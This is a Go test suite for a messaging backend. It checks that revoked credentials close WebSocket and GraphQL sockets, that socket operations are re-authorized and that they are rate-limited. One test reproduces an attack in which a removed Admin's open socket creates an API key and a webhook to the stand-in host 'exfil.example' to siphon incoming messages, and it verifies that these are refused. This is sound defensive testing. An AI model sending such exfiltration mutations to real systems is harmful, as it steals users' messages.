package app_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/gorilla/websocket"

	"switchboard/ent/apikey"
	"switchboard/ent/contact"
	"switchboard/ent/organizationmember"
	"switchboard/ent/refreshtoken"
	"switchboard/ent/role"
	"switchboard/ent/rule"
	"switchboard/ent/user"
	"switchboard/ent/viewer"
	"switchboard/ent/webhooksubscription"
	"switchboard/events"
	"switchboard/internal/apitest"
)

// The close codes of a revoked socket, /ws and GraphQL alike: the
// credential ended (log in again), or the access it gave changed.
const (
	closeCredentialEnded = 4401
	closeAccessChanged   = 4403
)

// revokeWait bounds how long a revoked socket may stay open in these tests:
// the contract says one second; the margin is for a loaded machine.
const revokeWait = 5 * time.Second

// socketURL is the WebSocket URL of path on the server at base.
func socketURL(base, path string) string { return "ws" + strings.TrimPrefix(base, "http") + path }

// openWS opens /ws on base for c and reads its connected message.
func openWS(t *testing.T, base string, c *apitest.Client) *websocket.Conn {
	t.Helper()
	tok := c.Do(http.MethodGet, "/api/auth/ws-token", nil).ExpectStatus(t, http.StatusOK).String("data.token")
	conn, resp, err := websocket.DefaultDialer.Dial(socketURL(base, "/ws?token="+tok), nil)
	if err != nil {
		t.Fatalf("dial /ws: %v (%v)", err, resp)
	}
	t.Cleanup(func() { conn.Close() })
	if m := wsReadJSON(t, conn); m["type"] != "connected" {
		t.Fatalf("first message: %v", m)
	}
	return conn
}

// gqlSocket is a GraphQL WebSocket (graphql-transport-ws) under test.
type gqlSocket struct {
	conn *websocket.Conn
	ids  atomic.Int64
}

// openGraphQL opens the GraphQL WebSocket on base for c and completes its
// init with a ws token.
func openGraphQL(t *testing.T, base string, c *apitest.Client) *gqlSocket {
	t.Helper()
	dialer := websocket.Dialer{Subprotocols: []string{"graphql-transport-ws"}}
	conn, resp, err := dialer.Dial(socketURL(base, "/graphql"), nil)
	if err != nil {
		t.Fatalf("dial /graphql: %v (%v)", err, resp)
	}
	t.Cleanup(func() { conn.Close() })
	tok := c.Do(http.MethodGet, "/api/auth/ws-token", nil).ExpectStatus(t, http.StatusOK).String("data.token")
	if err := conn.WriteJSON(map[string]any{"type": "connection_init", "payload": map[string]any{"token": tok}}); err != nil {
		t.Fatal(err)
	}
	if m := wsReadJSON(t, conn); m["type"] != "connection_ack" {
		t.Fatalf("init: %v", m)
	}
	return &gqlSocket{conn: conn}
}

// start sends an operation and returns its id. A write error (the server
// closed the socket) is left to the reads that follow.
func (s *gqlSocket) start(query string, vars map[string]any) string {
	id := strconv.FormatInt(s.ids.Add(1), 10)
	_ = s.conn.WriteJSON(map[string]any{"id": id, "type": "subscribe", "payload": map[string]any{"query": query, "variables": vars}})
	return id
}

// gqlResult is one answer to an operation.
type gqlResult struct {
	Data   map[string]any
	Errors []struct {
		Message    string         `json:"message"`
		Extensions map[string]any `json:"extensions"`
	}
}

// code is extensions.code of the first error, "" without one.
func (r gqlResult) code() string {
	if len(r.Errors) == 0 {
		return ""
	}
	c, _ := r.Errors[0].Extensions["code"].(string)
	return c
}

// next reads until the answer to operation id (skipping keep-alives and
// other operations' messages); ok is false when the socket closed first,
// and closed is then the close frame.
func (s *gqlSocket) next(t *testing.T, id string) (res gqlResult, closed *websocket.CloseError, ok bool) {
	t.Helper()
	_ = s.conn.SetReadDeadline(time.Now().Add(revokeWait))
	for {
		var m struct {
			ID      string          `json:"id"`
			Type    string          `json:"type"`
			Payload json.RawMessage `json:"payload"`
		}
		if err := s.conn.ReadJSON(&m); err != nil {
			ce, isClose := err.(*websocket.CloseError)
			if !isClose {
				t.Fatalf("reading the GraphQL WebSocket: %v", err)
			}
			return gqlResult{}, ce, false
		}
		if m.ID != id {
			continue
		}
		switch m.Type {
		case "next":
			if err := json.Unmarshal(m.Payload, &res); err != nil {
				t.Fatalf("next: %s", m.Payload)
			}
			return res, nil, true
		case "error":
			if err := json.Unmarshal(m.Payload, &res.Errors); err != nil {
				t.Fatalf("error: %s", m.Payload)
			}
			return res, nil, true
		}
	}
}

// run sends an operation and waits for its answer; the socket must stay
// open.
func (s *gqlSocket) run(t *testing.T, query string, vars map[string]any) gqlResult {
	t.Helper()
	res, closed, ok := s.next(t, s.start(query, vars))
	if !ok {
		t.Fatalf("the socket closed instead of answering %q: %v", query, closed)
	}
	return res
}

const viewerQuery = `{ viewer { user { id } } }`

// expectServes checks that the socket still runs operations for its user.
func (s *gqlSocket) expectServes(t *testing.T, userID uuid.UUID) {
	t.Helper()
	res := s.run(t, viewerQuery, nil)
	if got, _ := res.Data["viewer"].(map[string]any)["user"].(map[string]any)["id"].(string); got != userID.String() {
		t.Fatalf("viewer over the socket: %+v", res)
	}
}

// expectRefusedAndClosed sends an operation after a revocation: it must
// not run (the socket is closed, or the operation is refused) and the
// socket closes with code. It returns the operation's refusal, if any
// came before the close.
func (s *gqlSocket) expectRefusedAndClosed(t *testing.T, query string, vars map[string]any, code int) gqlResult {
	t.Helper()
	id := s.start(query, vars)
	var refusal gqlResult
	for {
		res, closed, ok := s.next(t, id)
		if !ok {
			expectCloseCode(t, closed, code)
			return refusal
		}
		if len(res.Errors) == 0 {
			t.Fatalf("an operation ran over a revoked socket: %+v", res.Data)
		}
		refusal = res
	}
}

// expectClosed reads until the socket closes with code; whatever the
// running subscriptions deliver meanwhile is skipped.
func (s *gqlSocket) expectClosed(t *testing.T, code int) {
	t.Helper()
	_, closed, _ := s.next(t, "") // no operation has the empty id
	expectCloseCode(t, closed, code)
}

// expectCloseCode fails unless the socket was closed with code and says
// why.
func expectCloseCode(t *testing.T, ce *websocket.CloseError, code int) {
	t.Helper()
	if ce == nil || ce.Code != code || ce.Text == "" {
		t.Fatalf("closed with %v, want code %d and a reason", ce, code)
	}
}

// expectWSClosed reads /ws until the server closes it with code.
func expectWSClosed(t *testing.T, conn *websocket.Conn, code int) {
	t.Helper()
	_ = conn.SetReadDeadline(time.Now().Add(revokeWait))
	for {
		if _, _, err := conn.ReadMessage(); err != nil {
			ce, _ := err.(*websocket.CloseError)
			expectCloseCode(t, ce, code)
			return
		}
	}
}

// expectStreams checks that /ws still streams its organization's events.
func expectStreams(t *testing.T, env *apitest.Env, conn *websocket.Conn, org uuid.UUID) {
	t.Helper()
	nonce := uuid.NewString()
	if err := env.App.Events.Record(context.Background(), events.Event{
		Type: events.ContactUpdated, OrgID: org, Payload: map[string]string{"id": nonce},
	}); err != nil {
		t.Fatal(err)
	}
	for {
		m := wsReadJSON(t, conn)
		if p, _ := m["payload"].(map[string]any); p["id"] == nonce {
			return
		}
	}
}

// revocationFixture is two organizations with their members, and sockets
// no revocation in the tests may close.
type revocationFixture struct {
	env        *apitest.Env
	orgA, orgB uuid.UUID
	// contact is a contact of organization A, named by the events that
	// prove a subscription runs.
	contact uuid.UUID
	// bystanders hold sockets that must stay open.
	bystanders []bystander
}

type bystander struct {
	name   string
	user   uuid.UUID
	org    uuid.UUID
	ws     *websocket.Conn
	gql    *gqlSocket
	client *apitest.Client
}

func newRevocationFixture(t *testing.T, env *apitest.Env) *revocationFixture {
	t.Helper()
	f := &revocationFixture{env: env, orgA: env.OrgID}
	adminB := env.NewOrg("Other Tenant")
	f.orgB = adminB.OrgID
	f.contact = uuid.MustParse(env.Admin.Do(http.MethodPost, "/api/contacts",
		map[string]any{"phone_number": "15550001111", "profile_name": "Revocation Probe"}).ExpectStatus(t, http.StatusCreated).String("data.id"))
	// Another member of organization A with a role no case edits.
	env.Admin.Do(http.MethodPost, "/api/roles", map[string]any{"name": "Observer", "permissions": []string{"contacts:read"}}).
		ExpectStatus(t, http.StatusCreated)
	observer := env.NewUser(f.orgA, "Observer")
	for _, b := range []struct {
		name string
		c    *apitest.Client
	}{{"OtherOrganization", adminB}, {"OtherMember", observer}} {
		f.bystanders = append(f.bystanders, bystander{
			name: b.name, user: b.c.UserID, org: b.c.OrgID, client: b.c,
			ws: openWS(t, env.Server.URL, b.c), gql: openGraphQL(t, env.Server.URL, b.c),
		})
	}
	return f
}

// expectServed checks that each bystander's sockets still serve them.
func (f *revocationFixture) expectServed(t *testing.T, bystanders []bystander) {
	t.Helper()
	for _, b := range bystanders {
		t.Run("Unaffected"+b.name, func(t *testing.T) {
			expectStreams(t, f.env, b.ws, b.org)
			b.gql.expectServes(t, b.user)
		})
	}
}

// victim is whose sockets a case revokes: a member (by session) or an
// API key.
type victim struct {
	role string
	// client opened the victim's sockets; for an API key it is the key.
	client *apitest.Client
	// user is the member (the key's owner for an API key).
	user *apitest.Client
	key  uuid.UUID
}

// newVictim makes a fresh member of organization A with role, or an API
// key whose owner is a Manager of A ("APIKey"), also a member of B.
func (f *revocationFixture) newVictim(t *testing.T, roleName string) *victim {
	t.Helper()
	env := f.env
	if roleName != "APIKey" {
		u := env.NewUser(f.orgA, roleName)
		f.addMembership(t, u.UserID, f.orgB, "Agent")
		return &victim{role: roleName, client: u, user: u}
	}
	// Keys are created by Admins; the owner is then made a Manager, so
	// that its role's permissions can be edited.
	owner := env.NewUser(f.orgA, "Admin")
	res := owner.Do(http.MethodPost, "/api/api-keys", map[string]any{"name": "probe"}).ExpectStatus(t, http.StatusCreated)
	env.Admin.Do(http.MethodPut, "/api/users/"+owner.UserID.String(), map[string]any{"role_id": f.roleID(t, f.orgA, "Manager").String()}).
		ExpectStatus(t, http.StatusOK)
	return &victim{role: roleName, client: env.WithAPIKey(res.String("data.key")), user: owner, key: uuid.MustParse(res.String("data.id"))}
}

func (f *revocationFixture) roleID(t *testing.T, org uuid.UUID, name string) uuid.UUID {
	t.Helper()
	r, err := f.env.Client().Role.Query().Where(role.Name(name)).Only(viewer.SystemContext(context.Background(), org))
	if err != nil {
		t.Fatal(err)
	}
	return r.ID
}

func (f *revocationFixture) addMembership(t *testing.T, userID, org uuid.UUID, roleName string) {
	t.Helper()
	err := f.env.Client().OrganizationMember.Create().SetUserID(userID).SetRoleID(f.roleID(t, org, roleName)).
		Exec(viewer.SystemContext(context.Background(), org))
	if err != nil {
		t.Fatal(err)
	}
}

// inOrg is c acting in org (X-Organization-ID).
func inOrg(c *apitest.Client, org uuid.UUID) *apitest.Client {
	o := *c
	o.Org = org.String()
	return &o
}

// toggleCannedRead adds canned_responses:read to the role, or takes it
// away: an edit of its permissions that no socket in these tests needs.
func (f *revocationFixture) toggleCannedRead(t *testing.T, roleID uuid.UUID) {
	t.Helper()
	res := f.env.Admin.Do(http.MethodGet, "/api/roles/"+roleID.String(), nil).ExpectStatus(t, http.StatusOK)
	var keys []string
	for _, p := range res.Get("data.permissions").([]any) {
		p := p.(map[string]any)
		keys = append(keys, p["resource"].(string)+":"+p["action"].(string))
	}
	if i := slices.Index(keys, "canned_responses:read"); i >= 0 {
		keys = slices.Delete(keys, i, i+1)
	} else {
		keys = append(keys, "canned_responses:read")
	}
	f.env.Admin.Do(http.MethodPut, "/api/roles/"+roleID.String(), map[string]any{"permissions": keys}).ExpectStatus(t, http.StatusOK)
}

// revocationKind is one change that revokes sockets, made through the API
// as an operator or the person would.
type revocationKind struct {
	name string
	// roles it applies to ("Admin", "Manager", "Agent", "APIKey").
	roles []string
	code  int
	// membership: the change is to the victim's place in organization
	// A, so their sockets in organization B stay open.
	membership bool
	// revoke makes the change; it returns sockets of the victim that the
	// change must leave open, if any.
	revoke func(t *testing.T, f *revocationFixture, v *victim) []bystander
}

var (
	sessionRoles = []string{"Admin", "Manager", "Agent"}
	allRoles     = []string{"Admin", "Manager", "Agent", "APIKey"}
)

var revocationKinds = []revocationKind{
	{name: "Logout", roles: sessionRoles, code: closeCredentialEnded, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		v.client.Do(http.MethodPost, "/api/auth/logout", map[string]any{}).ExpectStatus(t, http.StatusOK)
		return nil
	}},
	{name: "RemovedFromOrganization", roles: allRoles, code: closeAccessChanged, membership: true, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		f.env.Admin.Do(http.MethodDelete, "/api/users/"+v.user.UserID.String(), nil).ExpectStatus(t, http.StatusOK)
		return nil
	}},
	{name: "RoleChanged", roles: allRoles, code: closeAccessChanged, membership: true, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		to := "Agent"
		if v.role == "Agent" {
			to = "Manager"
		}
		f.env.Admin.Do(http.MethodPut, "/api/users/"+v.user.UserID.String(), map[string]any{"role_id": f.roleID(t, f.orgA, to).String()}).
			ExpectStatus(t, http.StatusOK)
		return nil
	}},
	// The Admin role always holds every permission: it cannot be edited.
	{name: "RolePermissionsEdited", roles: []string{"Manager", "Agent", "APIKey"}, code: closeAccessChanged, membership: true, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		name := v.role
		if v.role == "APIKey" {
			name = "Manager"
		}
		f.toggleCannedRead(t, f.roleID(t, f.orgA, name))
		return nil
	}},
	{name: "UserDeactivated", roles: allRoles, code: closeCredentialEnded, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		f.env.Admin.Do(http.MethodPut, "/api/users/"+v.user.UserID.String(), map[string]any{"is_active": false}).ExpectStatus(t, http.StatusOK)
		return nil
	}},
	{name: "APIKeyDisabled", roles: []string{"APIKey"}, code: closeCredentialEnded, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		f.env.Admin.Do(http.MethodPut, "/api/api-keys/"+v.key.String(), map[string]any{"is_active": false}).ExpectStatus(t, http.StatusOK)
		return nil
	}},
	{name: "APIKeyDeleted", roles: []string{"APIKey"}, code: closeCredentialEnded, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		f.env.Admin.Do(http.MethodDelete, "/api/api-keys/"+v.key.String(), nil).ExpectStatus(t, http.StatusOK)
		return nil
	}},
	// The person changes their password in another session: that one
	// goes on (checked by the case), every other ends.
	{name: "PasswordChanged", roles: sessionRoles, code: closeCredentialEnded, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		other := f.env.Login(v.user.Do(http.MethodGet, "/api/me", nil).String("data.email"), apitest.UserPassword)
		ws, gql := openWS(t, f.env.Server.URL, other), openGraphQL(t, f.env.Server.URL, other)
		other.Do(http.MethodPut, "/api/me/password", map[string]any{"current_password": apitest.UserPassword, "new_password": "a-new-password-4-tests"}).
			ExpectStatus(t, http.StatusOK)
		return []bystander{{name: "ChangingSession", user: other.UserID, org: f.orgA, ws: ws, gql: gql, client: other}}
	}},
	{name: "PasswordReset", roles: sessionRoles, code: closeCredentialEnded, revoke: func(t *testing.T, f *revocationFixture, v *victim) []bystander {
		f.env.Admin.Do(http.MethodPut, "/api/users/"+v.user.UserID.String(), map[string]any{"password": "a-reset-password-4-tests"}).
			ExpectStatus(t, http.StatusOK)
		return nil
	}},
}

// victimSockets are the three kinds of socket a victim holds open.
type victimSockets struct {
	ws  *websocket.Conn
	ops *gqlSocket
	sub *gqlSocket
	// subID is the running subscription's operation.
	subID string
	// elsewhere is the victim's /ws in organization B (members only).
	elsewhere *websocket.Conn
}

// openVictimSockets opens /ws, a GraphQL WebSocket that runs operations
// and one with a running subscription (proved by an event it receives).
func (f *revocationFixture) openVictimSockets(t *testing.T, base string, v *victim) *victimSockets {
	t.Helper()
	s := &victimSockets{ws: openWS(t, base, v.client), ops: openGraphQL(t, base, v.client), sub: openGraphQL(t, base, v.client)}
	s.ops.expectServes(t, v.user.UserID)
	s.subID = s.sub.start(`subscription { contactChanged { id } }`, nil)
	// The subscription is registered asynchronously: announce the contact
	// until it arrives.
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		for {
			_ = f.env.App.Events.Record(context.Background(), events.Event{
				Type: events.ContactUpdated, OrgID: f.orgA, Payload: map[string]string{"id": f.contact.String()},
			})
			select {
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
			}
		}
	}()
	if res, closed, ok := s.sub.next(t, s.subID); !ok || len(res.Errors) > 0 {
		t.Fatalf("the subscription delivered %+v (closed: %v)", res, closed)
	}
	if v.role != "APIKey" {
		s.elsewhere = openWS(t, base, inOrg(v.client, f.orgB))
	}
	return s
}

// expectRevoked checks that each of the victim's sockets closes with
// code, and that an operation sent after the change does not run.
func (s *victimSockets) expectRevoked(t *testing.T, code int) {
	t.Helper()
	t.Run("WS", func(t *testing.T) { expectWSClosed(t, s.ws, code) })
	t.Run("GraphQLOperations", func(t *testing.T) {
		s.ops.expectRefusedAndClosed(t, `mutation { createAPIKey(input: {name: "after revocation"}) { key } }`, nil, code)
	})
	t.Run("GraphQLSubscription", func(t *testing.T) { s.sub.expectClosed(t, code) })
}

// TestRevocationClosesSockets repeats the outside probe: in two
// organizations, for every role and an API key, each change that revokes
// access closes the affected user's /ws, GraphQL WebSocket and running
// subscription, refuses what the socket sends afterwards, and leaves every
// other socket open: the other organization's, another member's, the
// victim's own in the other organization when only their membership of
// this one changed, and the session that changed its own password.
func TestRevocationClosesSockets(t *testing.T) {
	env := apitest.New(t)
	f := newRevocationFixture(t, env)
	for _, kind := range revocationKinds {
		for _, roleName := range kind.roles {
			t.Run(kind.name+"/"+roleName, func(t *testing.T) {
				v := f.newVictim(t, roleName)
				s := f.openVictimSockets(t, env.Server.URL, v)
				kept := kind.revoke(t, f, v)
				s.expectRevoked(t, kind.code)
				if s.elsewhere != nil {
					t.Run("SameUserOtherOrganization", func(t *testing.T) {
						if kind.membership {
							expectStreams(t, env, s.elsewhere, f.orgB)
						} else {
							expectWSClosed(t, s.elsewhere, kind.code)
						}
					})
				}
				f.expectServed(t, append(kept, f.bystanders...))
			})
		}
	}
}

// TestRevocationReachesEveryNode: a change made through one node closes
// the sockets held on another (two application instances on the same
// PostgreSQL and Redis).
func TestRevocationReachesEveryNode(t *testing.T) {
	env := apitest.New(t)
	f := newRevocationFixture(t, env)
	_, peer := env.Peer()
	for _, kind := range revocationKinds {
		if !slices.Contains(kind.roles, "Agent") {
			continue
		}
		t.Run(kind.name, func(t *testing.T) {
			v := f.newVictim(t, "Agent")
			s := f.openVictimSockets(t, peer.URL, v)
			kind.revoke(t, f, v)
			s.expectRevoked(t, kind.code)
		})
	}
	t.Run("APIKeyDeleted", func(t *testing.T) {
		v := f.newVictim(t, "APIKey")
		s := f.openVictimSockets(t, peer.URL, v)
		f.env.Admin.Do(http.MethodDelete, "/api/api-keys/"+v.key.String(), nil).ExpectStatus(t, http.StatusOK)
		s.expectRevoked(t, closeCredentialEnded)
	})
}

// exfiltration is what the removed Admin of the issue sent over the socket
// they kept open.
var exfiltration = []string{
	`mutation { createAPIKey(input: {name: "exfil"}) { key } }`,
	`mutation { createWebhookSubscription(input: {name: "exfil", url: "https://exfil.example/hook", events: ["message:incoming"]}) { secret } }`,
}

// expectNothingExfiltrated checks that the removed Admin made no key and
// no webhook subscription.
func expectNothingExfiltrated(t *testing.T, env *apitest.Env, admin uuid.UUID) {
	t.Helper()
	ctx := rule.Bypass(context.Background(), "test")
	keys, err := env.Client().APIKey.Query().Where(apikey.UserID(admin)).Count(ctx)
	if err != nil {
		t.Fatal(err)
	}
	hooks, err := env.Client().WebhookSubscription.Query().Where(webhooksubscription.Name("exfil")).Count(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if keys != 0 || hooks != 0 {
		t.Fatalf("the removed Admin created %d API keys and %d webhook subscriptions", keys, hooks)
	}
}

// TestRemovedAdminCannotActOverOpenSocket is the attack of the issue: an
// Admin removed from the organization keeps a GraphQL WebSocket open and
// creates an API key and a webhook subscription that would carry every
// incoming message out. Removed through the API, the socket is closed;
// removed where no revocation is announced (a lost message), each
// operation is still authorized against the current membership.
func TestRemovedAdminCannotActOverOpenSocket(t *testing.T) {
	env := apitest.New(t)
	t.Run("RemovedThroughTheAPI", func(t *testing.T) {
		admin := env.NewUser(env.OrgID, "Admin")
		sock := openGraphQL(t, env.Server.URL, admin)
		sock.expectServes(t, admin.UserID)
		env.Admin.Do(http.MethodDelete, "/api/users/"+admin.UserID.String(), nil).ExpectStatus(t, http.StatusOK)
		for _, m := range exfiltration {
			sock.expectRefusedAndClosed(t, m, nil, closeAccessChanged)
		}
		expectNothingExfiltrated(t, env, admin.UserID)
	})
	t.Run("RevocationLost", func(t *testing.T) {
		admin := env.NewUser(env.OrgID, "Admin")
		sock := openGraphQL(t, env.Server.URL, admin)
		sock.expectServes(t, admin.UserID)
		deleteMembership(t, env, admin.UserID, env.OrgID)
		refusal := sock.expectRefusedAndClosed(t, exfiltration[0], nil, closeAccessChanged)
		if refusal.code() != "forbidden" {
			t.Fatalf("refusal %+v, want code forbidden", refusal)
		}
		expectNothingExfiltrated(t, env, admin.UserID)
	})
}

// deleteMembership removes a membership in the database, announcing
// nothing.
func deleteMembership(t *testing.T, env *apitest.Env, userID, org uuid.UUID) {
	t.Helper()
	_, err := env.Client().OrganizationMember.Delete().Where(organizationmember.UserID(userID)).
		Exec(viewer.SystemContext(context.Background(), org))
	if err != nil {
		t.Fatal(err)
	}
}

// TestGraphQLSocketOperationsAreReauthorized: every operation over a
// GraphQL WebSocket is authorized against the current state of its
// credential, even when the change that revoked it was never announced
// (made here in the database directly): it is refused with the code a
// REST request would get, and the socket closes.
func TestGraphQLSocketOperationsAreReauthorized(t *testing.T) {
	env := apitest.New(t)
	f := &revocationFixture{env: env, orgA: env.OrgID}
	ctx := context.Background()
	bypass := rule.Bypass(ctx, "test: a change nobody announces")
	for _, tc := range []struct {
		name   string
		apiKey bool
		change func(t *testing.T, v *victim)
		code   string
		close  int
	}{
		{name: "MembershipDeleted", code: "forbidden", close: closeAccessChanged, change: func(t *testing.T, v *victim) {
			deleteMembership(t, env, v.user.UserID, env.OrgID)
		}},
		{name: "RoleChanged", code: "forbidden", close: closeAccessChanged, change: func(t *testing.T, v *victim) {
			_, err := env.Client().OrganizationMember.Update().Where(organizationmember.UserID(v.user.UserID)).
				SetRoleID(f.roleID(t, env.OrgID, "Agent")).Save(viewer.SystemContext(ctx, env.OrgID))
			if err != nil {
				t.Fatal(err)
			}
		}},
		{name: "RolePermissionsEdited", code: "forbidden", close: closeAccessChanged, change: func(t *testing.T, v *victim) {
			err := env.Client().Role.UpdateOneID(f.roleID(t, env.OrgID, "Manager")).ClearPermissions().
				SetUpdatedAt(time.Now().Add(time.Second)).Exec(viewer.SystemContext(ctx, env.OrgID))
			if err != nil {
				t.Fatal(err)
			}
		}},
		{name: "UserDeactivated", code: "unauthenticated", close: closeCredentialEnded, change: func(t *testing.T, v *victim) {
			if err := env.Client().User.Update().Where(user.ID(v.user.UserID)).SetIsActive(false).Exec(bypass); err != nil {
				t.Fatal(err)
			}
		}},
		{name: "SessionRevoked", code: "unauthenticated", close: closeCredentialEnded, change: func(t *testing.T, v *victim) {
			if err := env.Client().RefreshToken.Update().Where(refreshtoken.UserID(v.user.UserID)).SetRevokedAt(time.Now()).Exec(bypass); err != nil {
				t.Fatal(err)
			}
		}},
		{name: "APIKeyDisabled", apiKey: true, code: "unauthenticated", close: closeCredentialEnded, change: func(t *testing.T, v *victim) {
			if err := env.Client().APIKey.UpdateOneID(v.key).SetIsActive(false).Exec(bypass); err != nil {
				t.Fatal(err)
			}
		}},
		{name: "APIKeyDeleted", apiKey: true, code: "unauthenticated", close: closeCredentialEnded, change: func(t *testing.T, v *victim) {
			if err := env.Client().APIKey.DeleteOneID(v.key).Exec(bypass); err != nil {
				t.Fatal(err)
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var v *victim
			if tc.apiKey {
				v = f.newVictimKey(t)
			} else {
				u := env.NewUser(env.OrgID, "Manager")
				v = &victim{role: "Manager", client: u, user: u}
			}
			sock := openGraphQL(t, env.Server.URL, v.client)
			sock.expectServes(t, v.user.UserID)
			tc.change(t, v)
			refusal := sock.expectRefusedAndClosed(t, viewerQuery, nil, tc.close)
			if refusal.code() != tc.code {
				t.Fatalf("refusal %+v, want code %s", refusal, tc.code)
			}
		})
	}
}

// newVictimKey is an API key of a new Admin of organization A (no other
// membership: this fixture has one organization).
func (f *revocationFixture) newVictimKey(t *testing.T) *victim {
	t.Helper()
	owner := f.env.NewUser(f.orgA, "Admin")
	res := owner.Do(http.MethodPost, "/api/api-keys", map[string]any{"name": "probe"}).ExpectStatus(t, http.StatusCreated)
	return &victim{role: "APIKey", client: f.env.WithAPIKey(res.String("data.key")), user: owner, key: uuid.MustParse(res.String("data.id"))}
}

// TestGraphQLSocketOperationsAreRateLimited: each operation over a GraphQL
// WebSocket counts against the budget of the identity it acts as, the
// same budget its REST requests use; past it, an operation is refused
// (rate_limited) and does not run.
func TestGraphQLSocketOperationsAreRateLimited(t *testing.T) {
	const budget = 40
	env := apitest.New(t, apitest.Setting{Name: "RATE_LIMIT_PER_MINUTE", Value: strconv.Itoa(budget)})
	f := &revocationFixture{env: env, orgA: env.OrgID}
	for _, tc := range []struct {
		name string
		// phones prefixes the phone numbers of the contacts it creates.
		phones string
		who    func(t *testing.T) *victim
	}{
		{"Session", "155510", func(t *testing.T) *victim {
			u := env.NewUser(env.OrgID, "Agent")
			return &victim{role: "Agent", client: u, user: u}
		}},
		{"APIKey", "155520", f.newVictimKey},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := tc.who(t)
			sock := openGraphQL(t, env.Server.URL, v.client)
			before := remaining(t, v.client)
			const ops = 5
			for range ops {
				sock.expectServes(t, v.user.UserID)
			}
			// The operations and this request itself.
			if after := remaining(t, v.client); after != before-ops-1 {
				t.Fatalf("X-RateLimit-Remaining %d after %d operations over the socket, want %d", after, ops, before-ops-1)
			}
			ran, refused := 0, 0
			for i := range budget {
				res := sock.run(t, `mutation($p: String!) { createContact(input: {phoneNumber: $p}) { id } }`,
					map[string]any{"p": fmt.Sprintf("%s%05d", tc.phones, i)})
				switch res.code() {
				case "":
					ran++
				case "rate_limited":
					refused++
				default:
					t.Fatalf("operation %d: %+v", i, res)
				}
			}
			// Before them: the ws token, and the two REST requests above.
			if refused == 0 || ran > budget-ops-3 {
				t.Fatalf("%d operations ran and %d were refused with a budget of %d", ran, refused, budget)
			}
			created, err := env.Client().Contact.Query().Where(contact.PhoneNumberHasPrefix(tc.phones)).
				Count(viewer.SystemContext(context.Background(), env.OrgID))
			if err != nil {
				t.Fatal(err)
			}
			if created != ran {
				t.Fatalf("%d contacts created by %d operations that ran: a refused operation ran", created, ran)
			}
			v.client.Do(http.MethodGet, "/api/me", nil).ExpectError(t, http.StatusTooManyRequests)
		})
	}
}

// remaining is X-RateLimit-Remaining of a REST request of c.
func remaining(t *testing.T, c *apitest.Client) int {
	t.Helper()
	res := c.Do(http.MethodGet, "/api/me", nil).ExpectStatus(t, http.StatusOK)
	n, err := strconv.Atoi(res.Header.Get("X-RateLimit-Remaining"))
	if err != nil {
		t.Fatalf("X-RateLimit-Remaining %q", res.Header.Get("X-RateLimit-Remaining"))
	}
	return n
}

// TestReverificationCatchesLostRevocations: pub/sub delivers at most
// once, so each node verifies its open sockets again (every
// access.VerifyEvery, and when its subscription comes back); a socket
// whose credential changed where no revocation was announced is closed
// then, and a socket whose credential holds stays open.
func TestReverificationCatchesLostRevocations(t *testing.T) {
	env := apitest.New(t)
	f := &revocationFixture{env: env, orgA: env.OrgID}
	bypass := rule.Bypass(context.Background(), "test: a change nobody announces")
	healthy := env.NewUser(env.OrgID, "Agent")
	healthyWS, healthyGQL := openWS(t, env.Server.URL, healthy), openGraphQL(t, env.Server.URL, healthy)
	for _, tc := range []struct {
		name   string
		apiKey bool
		change func(t *testing.T, v *victim)
		code   int
	}{
		{name: "MembershipDeleted", code: closeAccessChanged, change: func(t *testing.T, v *victim) {
			deleteMembership(t, env, v.user.UserID, env.OrgID)
		}},
		{name: "RoleChanged", code: closeAccessChanged, change: func(t *testing.T, v *victim) {
			_, err := env.Client().OrganizationMember.Update().Where(organizationmember.UserID(v.user.UserID)).
				SetRoleID(f.roleID(t, env.OrgID, "Agent")).Save(viewer.SystemContext(context.Background(), env.OrgID))
			if err != nil {
				t.Fatal(err)
			}
		}},
		{name: "UserDeactivated", code: closeCredentialEnded, change: func(t *testing.T, v *victim) {
			if err := env.Client().User.UpdateOneID(v.user.UserID).SetIsActive(false).Exec(bypass); err != nil {
				t.Fatal(err)
			}
		}},
		{name: "SessionRevoked", code: closeCredentialEnded, change: func(t *testing.T, v *victim) {
			if err := env.Client().RefreshToken.Update().Where(refreshtoken.UserID(v.user.UserID)).SetRevokedAt(time.Now()).Exec(bypass); err != nil {
				t.Fatal(err)
			}
		}},
		{name: "APIKeyDeleted", apiKey: true, code: closeCredentialEnded, change: func(t *testing.T, v *victim) {
			if err := env.Client().APIKey.DeleteOneID(v.key).Exec(bypass); err != nil {
				t.Fatal(err)
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var v *victim
			if tc.apiKey {
				v = f.newVictimKey(t)
			} else {
				u := env.NewUser(env.OrgID, "Manager")
				v = &victim{role: "Manager", client: u, user: u}
			}
			ws, gql := openWS(t, env.Server.URL, v.client), openGraphQL(t, env.Server.URL, v.client)
			tc.change(t, v)
			env.App.Access.Revocations.VerifyAll(context.Background())
			t.Run("WS", func(t *testing.T) { expectWSClosed(t, ws, tc.code) })
			t.Run("GraphQL", func(t *testing.T) { gql.expectClosed(t, tc.code) })
			t.Run("HealthySocketsStayOpen", func(t *testing.T) {
				expectStreams(t, env, healthyWS, env.OrgID)
				healthyGQL.expectServes(t, healthy.UserID)
			})
		})
	}
}
